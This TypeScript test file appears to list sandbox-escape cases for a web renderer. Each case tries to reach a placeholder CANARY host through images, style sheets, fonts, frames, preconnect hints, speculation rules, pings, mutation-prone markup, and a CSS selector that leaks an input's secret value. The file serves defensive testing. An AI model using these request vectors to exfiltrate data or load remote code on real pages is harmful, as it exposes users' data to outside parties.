import type { EscapeCase } from './case.ts';

const css = (text: string): EscapeCase['head'] => `<style>${text}</style>`;

/** Sending by markup and style sheets. */
export const markupCases: readonly EscapeCase[] = [
  {
    name: 'pictures',
    body: '<img src="CANARY/a.png"><img srcset="CANARY/b.png 2x, CANARY/c.png 1x"><picture><source srcset="CANARY/d.png"><img></picture><input type="image" src="CANARY/e.png">',
  },
  {
    name: 'pictures by code',
    script:
      'new Image().src = "CANARY/code.png"; const i = document.createElement("img"); i.setAttribute("src", "CANARY/code2.png"); i.srcset = "CANARY/code3.png 1x"; document.body.append(i)',
  },
  {
    name: 'pictures by attribute nodes',
    script:
      'const i = document.body.appendChild(document.createElement("img")); const a = document.createAttribute("src"); a.value = "CANARY/node.png"; i.setAttributeNode(a); const b = document.createAttribute("srcset"); b.value = "CANARY/node2.png 1x"; i.attributes.setNamedItem(b)',
  },
  {
    name: 'backgrounds',
    head: css(
      'body{background:url(CANARY/bg.png)} p{list-style-image:url("CANARY/li.png");border-image:url(CANARY/border.png) 1;cursor:url(CANARY/c.cur),auto;mask:url(CANARY/mask.svg)} p::before{content:url(CANARY/content.png)}',
    ),
    body: '<table background="CANARY/table.png"><tr><td style="background:url(CANARY/td.png)">x</table>',
  },
  {
    name: 'backgrounds by code',
    script:
      'const s = document.body.style; s.backgroundImage = "url(CANARY/a.png)"; s.setProperty("background", "url(CANARY/b.png)"); s.cssText = "background:url(CANARY/c.png)"; document.body.style = "background:url(CANARY/d.png)"; document.body.animate([{ backgroundImage: "url(CANARY/e.png)" }], 9e9); document.body.attributeStyleMap.set("background-image", "url(CANARY/f.png)")',
  },
  {
    name: 'data in selectors',
    head: css(
      'input[value^="h"]{background:url(CANARY/h.png)} input[value$="t"]{background:image-set("CANARY/t.png" 1x)}',
    ),
    body: '<input value="host-secret">',
  },
  {
    name: 'imports of style sheets',
    head:
      css('@import "CANARY/a.css"; @import url(CANARY/b.css);') +
      '<link rel="stylesheet" href="CANARY/c.css">',
  },
  {
    name: 'imports of style sheets by code',
    script:
      'const s = document.createElement("style"); document.head.append(s); s.textContent = "@import \\"CANARY/d.css\\""; const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "CANARY/e.css"; document.head.append(l); const c = new CSSStyleSheet(); c.replaceSync("p{background:url(CANARY/f.png)}"); document.adoptedStyleSheets = [c]',
  },
  {
    name: 'fonts',
    head: css('@font-face{font-family:x;src:url(CANARY/x.woff2)} p{font-family:x}'),
    script: 'await new FontFace("y", "url(CANARY/y.woff2)").load()',
  },
  {
    name: 'media',
    body: '<video src="CANARY/a.mp4" poster="CANARY/a.jpg" autoplay></video><audio src="CANARY/a.mp3" autoplay></audio><video><source src="CANARY/b.mp4"><track src="CANARY/b.vtt" default></video>',
    script: 'new Audio("CANARY/c.mp3").play().catch(() => 0)',
  },
  {
    name: 'vector graphics',
    body: '<svg><image href="CANARY/a.png"/><use href="CANARY/a.svg#x"/><filter id="f"><feImage href="CANARY/b.png"/></filter><rect filter="url(#f)" fill="url(CANARY/c.svg#g)" width="9" height="9"/><script href="CANARY/a.js"></script></svg>',
  },
  {
    name: 'scripts',
    body: '<script src="CANARY/a.js"></script><script type="module" src="CANARY/b.js"></script><script async src="//canary.test/c.js"></script>',
  },
  {
    name: 'frames',
    body: '<iframe src="CANARY/a.html"></iframe><iframe src="data:text/html,<img src=CANARY/b.png>"></iframe><object data="CANARY/c.html"></object><embed src="CANARY/d.html"><fencedframe></fencedframe>',
  },
  {
    name: 'frames of blobs',
    script:
      'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(["<img src=CANARY/blob.png><script>fetch(\\"CANARY/blob\\")<\\/script>"], { type: "text/html" })); document.body.append(f)',
  },
  {
    name: 'frames of their own text',
    body: "<iframe srcdoc=\"<img src='CANARY/srcdoc.png'><script>fetch('CANARY/srcdoc')</script><link rel=stylesheet href='CANARY/srcdoc.css'><iframe srcdoc='<img src=CANARY/inner.png>'></iframe>\"></iframe>",
  },
  {
    name: 'frames of scripts',
    script:
      'const f = document.createElement("iframe"); document.body.append(f); f.src = "javascript:fetch(\'CANARY/js\')"; location.hash = "x"; const g = document.createElement("iframe"); g.src = "javascript:\'<img src=CANARY/js.png>\'"; document.body.append(g)',
  },
  {
    name: 'sets of frames',
    script:
      'const s = document.createElement("frameset"); const f = document.createElement("frame"); f.src = "CANARY/frame.html"; s.append(f); document.body.replaceWith(s)',
    mayFail: true,
  },
  {
    name: 'policies of nested frames',
    body: '<iframe csp="default-src *" allow="camera *" srcdoc="<meta http-equiv=Content-Security-Policy content=\'default-src *\'><img src=\'CANARY/csp.png\'>"></iframe>',
  },
  {
    name: 'hints of connections',
    head: [
      'preconnect',
      'dns-prefetch',
      'prefetch',
      'prerender',
      'preload',
      'modulepreload',
      'manifest',
      'compression-dictionary',
      'icon',
      'search',
    ]
      .map((rel) => `<link rel="${rel}" href="CANARY/${rel}" as="script">`)
      .join(''),
  },
  {
    name: 'hints of connections by code',
    script:
      'const add = (change) => { const l = document.createElement("link"); l.href = "CANARY/hint"; change(l); document.head.append(l) }; add((l) => { l.rel = "preconnect" }); add((l) => l.setAttribute("REL", "Preconnect")); add((l) => l.relList.add("preconnect")); add((l) => { l.relList.value = "preconnect" }); add((l) => { l.rel = "x"; l.relList.replace("x", "preconnect") }); add((l) => { const a = document.createAttribute("rel"); a.value = "preconnect"; l.setAttributeNode(a) }); add((l) => { const a = document.createAttribute("rel"); a.value = "preconnect"; l.attributes.setNamedItem(a) }); add((l) => { l.rel = "x"; l.getAttributeNode("rel").value = "preconnect" }); add((l) => { l.rel = "x"; l.getAttributeNode("rel").nodeValue = "preconnect" }); add((l) => l.setAttributeNS(null, "rel", "preconnect")); add((l) => l.relList.toggle("preconnect"))',
  },
  {
    name: 'hints of connections in markup by code',
    script:
      'const m = "<link rel=preconnect href=CANARY><link rel=\\"pre&#99;onnect\\" href=CANARY>"; document.head.insertAdjacentHTML("beforeend", m); document.body.innerHTML += m; document.head.append(document.createRange().createContextualFragment(m)); document.head.append(...new DOMParser().parseFromString(m, "text/html").head.childNodes); const t = document.createElement("template"); t.innerHTML = m; document.head.append(t.content.cloneNode(true)); document.write(m); document.head.append(document.importNode(new DOMParser().parseFromString("<link xmlns=\\"http://www.w3.org/1999/xhtml\\" rel=\\"preconnect\\" href=\\"CANARY\\"/>", "application/xml").documentElement, true))',
  },
  {
    name: 'speculation',
    head: '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["CANARY/spec"],"eagerness":"immediate"}],"prerender":[{"source":"list","urls":["CANARY/spec2"]}]}</script>',
    script:
      'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: ["CANARY/spec3"] }] }); document.head.append(s)',
  },
  {
    name: 'base address',
    head: '<base href="CANARY/base/" target="_top">',
    body: '<img src="relative.png"><a id="a" href="relative.html">x</a>',
    script:
      'const b = document.createElement("base"); b.href = "CANARY/base2/"; document.head.prepend(b); await fetch("relative.json"); document.getElementById("a").click()',
  },
  {
    name: 'attribution and pings',
    body: '<img attributionsrc="CANARY/attr" src="data:,"><a id="a" href="#x" ping="CANARY/ping" attributionsrc="CANARY/attr2">x</a>',
    click: '#a',
    script:
      'document.getElementById("a").ping = "CANARY/ping2"; window.open("#y", "_self", "attributionsrc=CANARY/attr3")',
  },
  {
    name: 'sneaky markup',
    body: '<noscript><style></noscript><img src="CANARY/noscript.png"></style><svg><style><img src="CANARY/svg-style.png"></style></svg><math><mtext><img src=CANARY/math.png></mtext></math><img/src="CANARY/slash.png"><img src=`CANARY/tick.png`><iMg SrC=CANARY/case.png><!--><img src="CANARY/comment.png">--><textarea></textarea x><link rel=preconnect href=CANARY>',
  },
];
